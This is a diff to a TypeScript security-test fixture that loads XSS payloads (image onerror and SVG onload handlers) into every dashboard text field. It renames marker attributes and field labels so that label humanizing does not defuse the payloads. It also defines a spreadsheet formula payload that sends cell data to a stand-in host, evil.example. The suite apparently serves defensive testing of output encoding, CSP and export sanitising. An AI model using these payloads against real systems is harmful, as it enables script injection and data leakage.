@@ -5,13 +5,15 @@ import type { Warehouse } from '../../lib/warehouse/index.ts';
  * The attack suite's payloads, loaded through the product's own ingest jobs into every text field
  * the dashboard displays. Each payload names its field, so a failure says where the hole is.
  *
- * A payload fires `__xss(field)` if the browser runs it (the suite exposes that binding), and
- * leaves an element carrying `data-xss` in the DOM if it was inserted as HTML at all, even when
- * the Content-Security-Policy stops the handler: the suite checks both, so output encoding and the
- * CSP are each tested on their own.
+ * A payload calls `xssfired(field)` if the browser runs it (the suite exposes that binding), and
+ * leaves an element carrying an `xssmark` attribute in the DOM if it was inserted as HTML at all,
+ * even when the Content-Security-Policy stops the handler: the suite checks both, so output
+ * encoding and the CSP are each tested on their own. No `_` or `-` in the active parts or the field
+ * names: labels are humanized on the way ("closed_lost" → "Closed lost"), which would defuse a
+ * payload that depends on them and hide a real hole.
  */
 export const xss = (field: string): string =>
-  `X ${field}<img src=x data-xss="${field}" onerror="__xss('${field}')">'"><svg data-xss="${field}" onload="__xss('${field}')"></svg>`;
+  `X ${field}<img src=x xssmark="${field}" onerror="xssfired('${field}')">'"><svg xssmark="${field}" onload="xssfired('${field}')"></svg>`;
 
 /** A spreadsheet formula: an export must neutralise it (leading apostrophe), not hand it to Excel. */
 export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -42,7 +44,7 @@ export async function plantPayloads(wh: Warehouse, today: string): Promise<void>
       city: xss('customer.city'),
       country: 'DE',
       region: i % 2 ? xss('customer.region') : 'EMEA',
-      acquisition_channel: xss('customer.acquisition_channel'),
+      acquisition_channel: xss('customer.channel'),
       owner_id: OWNER,
       signup_date: day(today, -700),
     })),
@@ -59,7 +61,7 @@ export async function plantPayloads(wh: Warehouse, today: string): Promise<void>
         status: 'completed',
         amount: String(500 + i * 37 + k * 11),
         product_id: `atk-p${k % 3}`,
-        product_name: xss('transaction.product_name'),
+        product_name: xss('transaction.product'),
         category: xss('transaction.category'),
         channel: xss('transaction.channel'),
       })),
@@ -78,7 +80,7 @@ export async function plantPayloads(wh: Warehouse, today: string): Promise<void>
         amount: String(20_000 + i * 500),
         stage: k === 2 ? xss('deal.stage') : 'Proposal',
         status: k === 2 ? 'open' : 'lost',
-        loss_reason: k === 2 ? '' : xss('deal.loss_reason'),
+        loss_reason: k === 2 ? '' : xss('deal.lossreason'),
         competitor: xss('deal.competitor'),
         notes: xss('deal.notes'),
         created_at: day(today, -120 - i),
